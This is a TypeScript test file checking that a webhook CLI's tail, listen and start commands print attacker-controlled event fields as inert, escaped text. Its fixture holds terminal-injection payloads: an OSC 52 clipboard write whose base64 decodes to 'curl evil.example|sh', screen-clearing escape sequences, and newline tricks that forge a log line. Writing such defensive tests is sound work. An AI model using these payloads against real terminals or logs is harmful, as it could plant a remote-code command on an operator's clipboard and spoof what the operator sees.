// Issue 20, item 9: a crafted event must not write to the operator's terminal. Event fields are the
// sender's (attributes carry the body's type and user_metadata, and the webhook-id header); `tail`,
// `listen` and `npm start` print them. Driven on the emulator with the attack as found: escape
// sequences, an OSC 52 clipboard write, and a newline followed by a fake `webhook_id=... scheme=...` line.
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { after, before, test } from 'node:test';
import { eventFields } from '../../cli/tail.ts';
import { escapeControls, fieldText } from '../../cli/terminal-text.ts';
import { planRoute } from '../../functions/topology.ts';
import { freePort } from '../../scripts/lib/emulator.ts';
import { createLocalTopology } from '../../scripts/lib/local-topology.ts';
import { serveOnLoopback } from '../support/loopback-server.ts';
import { startPubSub, type EmulatorPubSub } from '../support/pubsub-emulator.ts';
import { runCli } from './harness.ts';

const repoRoot = join(dirname(fileURLToPath(import.meta.url)), '..', '..');
let world: EmulatorPubSub;
before(async () => {
  world = await startPubSub();
});
after(() => world?.stop());

const CRAFTED = {
  event_route: 'unrouted',
  event_type: 'batch.succeeded\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u0007\u001b[2J',
  webhook_id: 'msg_1\nwebhook_id=msg_forged scheme=static-v1',
  verification_scheme: 'static-v1\u009b31m',
  'ce-subject': 'batch_1\u2028fake line',
  user_metadata_tenant: 'acme\rhidden',
};

// Any C0 or C1 control, DEL, or a Unicode line separator reaching the terminal.
// eslint-disable-next-line no-control-regex -- the characters under test
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u2028\u2029]/;

function assertInert(lines: readonly string[], what: string): void {
  for (const line of lines) {
    assert.doesNotMatch(line, RAW_CONTROL, `${what}: a raw control character in ${JSON.stringify(line)}`);
    assert.doesNotMatch(line, /\n/, `${what}: a line break inside one line`);
  }
}

async function waitFor(lines: readonly string[], ready: (line: string) => boolean): Promise<void> {
  for (let i = 0; i < 800 && !lines.some(ready); i++) await new Promise((resolve) => setTimeout(resolve, 25));
  assert.ok(lines.some(ready), `no matching line in ${JSON.stringify(lines)}`);
}

test('tail prints a crafted event on one inert line, and --json keeps it parseable', async () => {
  await createLocalTopology(world.pubsub, { topicPrefix: 'esc' });
  for (const json of [false, true]) {
    const stop = new AbortController();
    const out: string[] = [];
    const started: string[] = [];
    const done = runCli(['tail', '--prefix', 'esc', '--type', 'unrouted', ...(json ? ['--json'] : [])], {
      env: { PUBSUB_EMULATOR_HOST: world.emulator.host },
      signal: stop.signal,
      onOut: (line) => out.push(line),
      onErr: (line) => started.push(line),
    });
    await waitFor(started, (line) => line.startsWith('Tailing'));
    await world.pubsub
      .topic(planRoute('esc', 'unrouted').topic)
      .publishMessage({ data: Buffer.from('{"type":"x\\u001b[31m"}'), attributes: CRAFTED });
    await waitFor(out, () => true);
    stop.abort();
    await done;
    assert.equal(out.length, 1);
    assertInert(out, json ? 'tail --json' : 'tail');
    if (json) {
      const parsed = JSON.parse(out[0]!) as { attributes: Record<string, string>; data: { type: string } };
      assert.deepEqual(parsed.attributes, CRAFTED, 'escaped, not altered');
      assert.equal(parsed.data.type, 'x\u001b[31m');
    } else {
      assert.match(out[0]!, / webhook_id="msg_1\\nwebhook_id=msg_forged scheme=static-v1" /);
      assert.match(out[0]!, /type="batch\.succeeded\\u001b\]52;c;/);
      assert.match(out[0]!, /scheme="static-v1\\u009b31m"/);
      assert.match(out[0]!, /subject="batch_1\\u2028fake line"/);
      assert.match(out[0]!, /metadata tenant="acme\\rhidden"/);
    }
  }
});

test('listen prints a crafted event on one inert line', async (t) => {
  await createLocalTopology(world.pubsub, { topicPrefix: 'escl' });
  const url = await serveOnLoopback(
    t,
    createServer((_, res) => res.writeHead(204).end()),
  );
  const stop = new AbortController();
  const out: string[] = [];
  const err: string[] = [];
  const done = runCli(['listen', '--forward-to', url, '--prefix', 'escl', '--type', 'unrouted'], {
    env: { PUBSUB_EMULATOR_HOST: world.emulator.host, GEMINI_WEBHOOKS_LISTEN_SECRET: `listen_${'x'.repeat(40)}` },
    signal: stop.signal,
    onOut: (line) => out.push(line),
    onErr: (line) => err.push(line),
  });
  await waitFor(err, (line) => line.startsWith('Forwarding events'));
  await world.pubsub
    .topic(planRoute('escl', 'unrouted').topic)
    .publishMessage({ data: Buffer.from('{}'), attributes: CRAFTED });
  await waitFor(out, () => true);
  stop.abort();
  await done;
  assertInert(out, 'listen');
  assert.match(
    out[0]!,
    /^\S+Z "batch\.succeeded\\u001b\]52;c;\S+ webhook_id="msg_1\\nwebhook_id=msg_forged scheme=static-v1" -> 204/,
  );
});

test('the fields npm start prints are escaped the same way; plain values stay as they are', () => {
  const fields = eventFields(CRAFTED).join(' ');
  assertInert([fields], 'npm start');
  assert.equal(
    eventFields({
      event_route: 'batch.succeeded',
      event_type: 'batch.succeeded',
      webhook_id: 'msg_2',
      verification_scheme: 'static-v1',
    }).join(' '),
    'batch.succeeded type=batch.succeeded webhook_id=msg_2 scheme=static-v1',
  );
  assert.equal(fieldText('a b'), '"a b"');
  assert.equal(escapeControls('\u001b\u007f\u0085\u202e'), '\\u001b\\u007f\\u0085\\u202e');
});

test('npm start prints a crafted event on one inert line', async (t) => {
  const dir = mkdtempSync(join(tmpdir(), 'start-'));
  const devStack = join(dir, 'dev-stack.json');
  const child = spawn(process.execPath, [join(repoRoot, 'scripts', 'start.ts')], {
    cwd: repoRoot,
    env: {
      PATH: process.env['PATH'],
      PORT: String(await freePort()),
      PUBSUB_EMULATOR_HOST: world.emulator.host,
      WEBHOOK_TOPIC_PREFIX: 'escs',
      GEMINI_WEBHOOKS_DEV_STACK_FILE: devStack,
    },
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  t.after(() => {
    child.kill('SIGKILL');
    rmSync(dir, { recursive: true, force: true });
  });
  const lines: string[] = [];
  let buffered = '';
  child.stdout.on('data', (chunk: Buffer) => {
    buffered += chunk.toString();
    const complete = buffered.split('\n');
    buffered = complete.pop()!;
    lines.push(...complete);
  });
  await waitFor(lines, (line) => line.startsWith('Receiver listening'));
  const stack = JSON.parse(readFileSync(devStack, 'utf8')) as Record<string, string>;
  assert.equal(stack['pubsubEmulatorHost'], world.emulator.host, 'what check --local reads');
  assert.equal(stack['topicPrefix'], 'escs');
  await world.pubsub
    .topic(planRoute('escs', 'unrouted').topic)
    .publishMessage({ data: Buffer.from('{}'), attributes: CRAFTED });
  await waitFor(lines, (line) => line.startsWith('event'));
  const exited = new Promise((resolve) => child.once('exit', resolve));
  child.kill('SIGINT');
  await exited;
  const events = lines.filter((line) => line.startsWith('event'));
  assert.equal(events.length, 1, lines.join('\n'));
  assertInert(lines, 'npm start');
  assert.match(
    events[0]!,
    /^event {6}unrouted type="batch\.succeeded\\u001b\]52;c;\S+ webhook_id="msg_1\\nwebhook_id=msg_forged scheme=static-v1" scheme="static-v1\\u009b31m" bytes=2 /,
  );
});
